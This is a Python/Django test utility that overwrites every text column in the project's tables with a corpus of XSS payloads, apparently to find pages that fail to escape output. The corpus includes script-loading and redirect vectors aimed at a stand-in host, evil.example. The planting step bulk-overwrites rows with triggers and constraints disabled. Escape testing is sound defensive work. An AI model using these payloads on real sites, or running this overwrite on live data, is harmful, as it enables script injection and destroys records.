"""Markup that runs in a page which does not escape it, in every text of every table."""

import zlib
from collections.abc import Iterator

from django.apps import apps
from django.db import DatabaseError, connection, models, transaction
from psycopg import sql

from bureau.core.maintenance import PACKAGES

#: What each tries; `ran()` tells the page.
VECTORS = [
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg/onload=ran()>",
    "<body onload=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<b onmouseover=ran()>x",
    "<a href=javascript:ran()>x</a>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video src=x onerror=ran()>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>",
    "<object data=javascript:ran()>",
    "<embed src=javascript:ran()>",
    "<link rel=stylesheet href=//e.x>",
    "<style>*{background:url(//e.example)}</style>",
    "<meta http-equiv=refresh content='0;//e.x'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>x",
    "<math><mi xlink:href=//e>",
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "<%= ran() %>",
    "&lt;script&gt;ran()",
    "\\u003cscript\\u003eran()",
    "<sCrIpT>ran()</ScRiPt>",
    "<script src=//evil.example/x.js></script>",
    "<svg><script>ran()</script>",
    "<img src=x hx-on:error=ran() hx-get=/>",
    "<div hx-get='javascript:ran()' hx-trigger=load>",
    "<template><script>ran()",
    "<noscript><img src=x onerror=ran()>",
    "<x onclick=ran() autofocus>",
    "onerror=ran() ",
    "javascript:ran()",
    "data:text/html,<script>ran()</script>",
    "<!--<img src=--><img src=x onerror=ran()>",
    "<![CDATA[<script>ran()]]>",
    "<textarea><img src=x onerror=ran()>",
]
#: What ends the place in which the text may stand: element, attribute, title, script.
ENDS = ["", '">', "'>", "</title></textarea></style>", "--></script>"]
CORPUS = [end + vector for vector in VECTORS for end in ENDS]
#: What the code itself looks up by, or what the browser is given as a name and not as a text.
KEYS = {
    "code", "path", "kind", "state", "route", "list_id", "key", "queue", "sha256", "language",
    "username", "password", "session_key", "file_format", "purpose", "target_label", "category",
    "subject_label", "target_id", "scheme", "role", "level", "number", "file_no", "phase", "raw",
}  # fmt: skip


def plant() -> int:
    """Every text that takes it holds markup by turns; returns in how many columns it stands."""
    planted = 0
    for model in apps.get_models():
        if model.__module__.split(".")[0] not in PACKAGES:
            continue
        for field in texts_of(model):
            planted += _planted(model, field)
    return planted


def texts_of(model: type[models.Model]) -> Iterator[models.Field]:
    for field in model._meta.local_fields:
        is_text = isinstance(field, models.CharField | models.TextField) and not field.choices
        if is_text and not field.primary_key and field.name not in KEYS:
            yield field


def _planted(model: type[models.Model], field: models.Field) -> bool:
    """By turns of the row's number, cut to what the column holds; not where a rule forbids it."""
    names = {"table": sql.Identifier(model._meta.db_table), "column": sql.Identifier(field.column)}
    first, length = zlib.crc32(field.name.encode()) % len(CORPUS), field.max_length or 2000
    try:
        with transaction.atomic(), connection.cursor() as cursor:
            cursor.execute("SET LOCAL session_replication_role = replica")
            cursor.execute(
                sql.SQL(
                    "WITH numbered AS (SELECT ctid, row_number() OVER () AS n FROM {table})"
                    " UPDATE {table} t SET {column} = left((%s::text[])[1 + (n + %s) %% %s], %s)"
                    " FROM numbered WHERE numbered.ctid = t.ctid"
                ).format(**names),
                [CORPUS, first, len(CORPUS), length],
            )
            return cursor.rowcount > 0
    except DatabaseError:
        return False
